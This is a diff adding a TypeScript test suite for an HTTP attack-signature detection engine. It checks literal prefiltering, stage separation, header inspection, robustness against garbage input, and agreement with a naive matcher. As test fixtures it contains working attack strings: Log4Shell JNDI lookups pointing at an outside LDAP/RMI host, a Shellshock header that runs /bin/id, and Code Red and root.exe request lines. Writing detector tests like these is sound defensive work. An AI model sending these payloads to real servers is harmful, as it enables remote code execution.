@@ -1,0 +1,192 @@
+import assert from 'node:assert/strict';
+import { randomBytes } from 'node:crypto';
+import {
+  builtinCatalogue, compileCatalogue, defaultEngine, exampleRequest, matchList, parseRequestLine,
+} from '../../src/detect/index.js';
+import type { Engine, NormalisedRequest, Signature, Stage } from '../../src/detect/index.js';
+import { LiteralAutomaton } from '../../src/detect/prefilter.js';
+import { readCorpus } from './corpus-sample.js';
+
+function sig(id: string, stage: Stage, match: Signature['match']): Signature {
+  return {
+    id, family: 'test', title: id, description: id, references: [], stage, match,
+    examples: { positive: [], negative: [] },
+  };
+}
+
+/** The plain loop over the same catalogue: what the one-pass engine must agree with. */
+function naive(signatures: readonly Signature[]) {
+  const list = signatures.map((s) => ({ target: s.match.target, re: new RegExp(s.match.pattern), methods: s.match.methods ?? null, stage: s.stage }));
+  return (n: NormalisedRequest, stage: Stage): string | null => {
+    const staged = list.filter((e) => e.stage === stage);
+    const hit = matchList(n as unknown as Record<string, unknown>, staged);
+    return hit ? signatures.filter((s) => s.stage === stage)[hit.index]!.id : null;
+  };
+}
+
+function classify(engine: Engine, line: string, headers?: Record<string, string>) {
+  const n = engine.normalise(parseRequestLine(line, headers));
+  return { n, request: engine.match(n, 'request'), notFound: engine.match(n, '404') };
+}
+
+describe('detect/engine', () => {
+  describe('LiteralAutomaton', () => {
+    it('reports every literal occurring in the text, overlapping ones included', () => {
+      const ac = new LiteralAutomaton([{ literal: 'he', id: 0 }, { literal: 'she', id: 1 }, { literal: 'his', id: 2 }, { literal: 'hers', id: 3 }, { literal: 'é', id: 4 }]);
+      const found: number[] = [];
+      ac.scan('ushers', new Uint32Array(5), 1, found);
+      assert.deepEqual(found.sort(), [0, 1, 3]);
+      const again: number[] = [];
+      ac.scan('caf\u00e9 his', new Uint32Array(5), 1, again);
+      assert.deepEqual(again.sort(), [2, 4]);
+    });
+  });
+
+  describe('matching', () => {
+    const catalogue = [
+      sig('first', 'request', { target: 'path', pattern: '/x\\.cgi$', literals: ['x.cgi'] }),
+      sig('second', 'request', { target: 'path', pattern: '\\.cgi$', literals: ['.cgi'] }),
+      sig('late', '404', { target: 'path', pattern: '/x\\.cgi$', literals: ['x.cgi'] }),
+      sig('post-only', 'request', { target: 'path', pattern: '^/upload$', literals: ['upload'], methods: ['POST'] }),
+      sig('no-literal', 'request', { target: 'raw', pattern: '^.{50}', methods: ['SEARCH'] }),
+      sig('anywhere', 'request', { target: 'all', pattern: 'evil\\{', literals: ['evil{'] }),
+    ];
+    const engine = compileCatalogue(catalogue);
+
+    it('returns the first matching signature in catalogue order', () => {
+      assert.equal(classify(engine, 'GET /x.cgi HTTP/1.1').request?.signature.id, 'first');
+      assert.equal(classify(engine, 'GET /y.cgi HTTP/1.1').request?.signature.id, 'second');
+    });
+
+    it('keeps stages apart', () => {
+      const r = classify(engine, 'GET /x.cgi HTTP/1.1');
+      assert.equal(r.notFound?.signature.id, 'late');
+      assert.equal(r.notFound?.stage, '404');
+      assert.equal(classify(engine, 'GET /y.cgi HTTP/1.1').notFound, null);
+    });
+
+    it('honours the methods of a signature, with or without literals', () => {
+      assert.equal(classify(engine, 'GET /upload HTTP/1.1').request, null);
+      assert.equal(classify(engine, 'POST /upload HTTP/1.1').request?.signature.id, 'post-only');
+      assert.equal(classify(engine, `GET /${'a'.repeat(60)} HTTP/1.1`).request, null);
+      assert.equal(classify(engine, `SEARCH /${'a'.repeat(60)} HTTP/1.1`).request?.signature.id, 'no-literal');
+    });
+
+    it('tries an `all` pattern on the request line and on every header, and says which header', () => {
+      assert.equal(classify(engine, 'GET /evil%7B HTTP/1.1').request?.signature.id, 'anywhere');
+      const r = classify(engine, 'GET / HTTP/1.1', { 'x-whatever': 'fine', 'x-custom-thing': 'EVIL{' });
+      assert.equal(r.request?.signature.id, 'anywhere');
+      assert.equal(r.request?.detail, 'x-custom-thing: evil{');
+    });
+
+    it('gives as evidence the request line as received, sanitised and cut to 200 characters', () => {
+      const v = classify(defaultEngine(), `GET /default.ida?${'N'.repeat(300)}\x1b HTTP/1.0`).request;
+      assert.equal(v?.signature.id, 'codered-i');
+      assert.ok(v!.evidence.startsWith('GET /default.ida?NNNN'));
+      assert.equal(v!.evidence.length, 203);
+      assert.ok(v!.evidence.endsWith('...'));
+      const ctl = classify(defaultEngine(), 'GET /scripts/root.exe?/c+dir\x07 HTTP/1.0').request;
+      assert.equal(ctl?.evidence, 'GET /scripts/root.exe?/c+dir\\x07');
+    });
+  });
+
+  describe('header inspection with the built-in catalogue', () => {
+    const engine = defaultEngine();
+    for (const header of ['user-agent', 'referer', 'cookie', 'x-api-version', 'x-anything-at-all']) {
+      it(`finds Log4Shell and Shellshock in ${header}`, () => {
+        assert.equal(classify(engine, 'GET / HTTP/1.1', { [header]: 'a=${${lower:j}ndi:ldap://198.51.100.7/a}' }).request?.signature.id, 'log4shell-jndi');
+        assert.equal(classify(engine, 'GET / HTTP/1.1', { [header]: '() { :; }; /bin/id' }).request?.signature.id, 'shellshock');
+      });
+    }
+
+    it('finds $%7Bjndi: percent-encoded in the request line and in a header', () => {
+      assert.equal(classify(engine, 'GET /?q=$%7Bjndi:ldap://198.51.100.7/a%7D HTTP/1.1').request?.signature.id, 'log4shell-jndi');
+      assert.equal(classify(engine, 'GET / HTTP/1.1', { 'x-forwarded-host': '$%7Bjndi:rmi://198.51.100.7/a%7D' }).request?.signature.id, 'log4shell-jndi');
+    });
+
+    it('leaves ordinary browser headers alone', () => {
+      const headers = {
+        'user-agent': 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36',
+        accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
+        cookie: '_ga=GA1.2.1234; theme=dark; cart={"items":[]}',
+        referer: 'https://www.example.net/search?q=what+is+()+{}+in+javascript',
+      };
+      assert.equal(classify(engine, 'GET /index.html HTTP/1.1', headers).request, null);
+    });
+  });
+
+  describe('robustness', () => {
+    const engine = defaultEngine();
+    const nasty = [
+      '', '%', '%%', '%u', '%u12', '%c0', '%c1%', '%e0%80', '\u0000\uffff\ud800', '\\'.repeat(10_000), '%'.repeat(100_000),
+      '%c0%af'.repeat(20_000), `/${'a'.repeat(100_000)}`, '${'.repeat(50_000), '() {'.repeat(30_000), 'x'.repeat(100_000),
+    ];
+
+    it('never throws on garbage targets, methods and headers', () => {
+      for (const s of nasty) {
+        for (const stage of ['request', '404'] as const) {
+          const n = engine.normalise({ method: s.slice(0, 1000), target: s, headers: { 'user-agent': s, x: [s, s] } });
+          engine.match(n, stage);
+        }
+      }
+      for (let i = 0; i < 300; i++) {
+        const bytes = randomBytes(1 + (i * 37) % 3000).toString('latin1');
+        const n = engine.normalise({ method: 'GET', target: bytes, headers: { 'user-agent': bytes } });
+        engine.match(n, 'request');
+        engine.match(n, '404');
+        engine.normalise(parseRequestLine(bytes));
+      }
+    });
+
+    it('does not throw on a malformed NormalisedRequest or RequestView either', () => {
+      const broken = { method: undefined, raw: null } as unknown as NormalisedRequest;
+      assert.equal(engine.match(broken, 'request'), null);
+      assert.equal(engine.match(engine.normalise({} as never), '404'), null);
+      assert.equal(engine.match(broken, 'other' as Stage), null);
+    });
+  });
+
+  describe('the prefilter gives the same verdicts as a plain loop', () => {
+    it('on every catalogue example and a sample of the corpus, at both stages', () => {
+      const engine = defaultEngine();
+      const reference = naive(builtinCatalogue);
+      const requests = builtinCatalogue.flatMap((s) => [...s.examples.positive, ...s.examples.negative]).map(exampleRequest);
+      for (const line of readCorpus(undefined, 4000)) requests.push(parseRequestLine(line.request, line.headers));
+      let flagged = 0;
+      for (const r of requests) {
+        const n = engine.normalise(r);
+        for (const stage of ['request', '404'] as const) {
+          const got = engine.match(n, stage)?.signature.id ?? null;
+          assert.equal(got, reference(n, stage), `${stage} ${r.method} ${r.target.slice(0, 100)}`);
+          if (got) flagged++;
+        }
+      }
+      assert.ok(flagged > 100, `only ${flagged} verdicts: the comparison proves little`);
+    });
+
+    it('on generated catalogues with overlapping literals and random texts', () => {
+      const alphabet = 'abc/.%${}';
+      let seed = 7;
+      const rnd = (n: number) => {
+        seed = (seed * 1103515245 + 12345) & 0x7fffffff;
+        return seed % n;
+      };
+      const word = (len: number) => Array.from({ length: len }, () => alphabet[rnd(alphabet.length)]).join('');
+      for (let round = 0; round < 20; round++) {
+        const sigs: Signature[] = [];
+        for (let i = 0; i < 40; i++) {
+          const lit = word(1 + rnd(4));
+          const target = (['path', 'query', 'url', 'line', 'raw', 'headers', 'all'] as const)[rnd(7)]!;
+          const escaped = lit.replace(/[.$%{}/]/g, (c) => `\\${c}`);
+          sigs.push(sig(`g${i}`, rnd(2) ? 'request' : '404', { target, pattern: rnd(3) ? escaped : `${escaped}.?a`, literals: [lit] }));
+        }
+        const engine = compileCatalogue(sigs);
+        const reference = naive(sigs);
+        for (let k = 0; k < 200; k++) {
+          const n = engine.normalise({ method: 'GET', target: `/${word(rnd(30))}?${word(rnd(10))}`, headers: { h: word(rnd(20)) } });
+          for (const stage of ['request', '404'] as const) assert.equal(engine.match(n, stage)?.signature.id ?? null, reference(n, stage));
+        }
+      }
+    });
+  });
+});
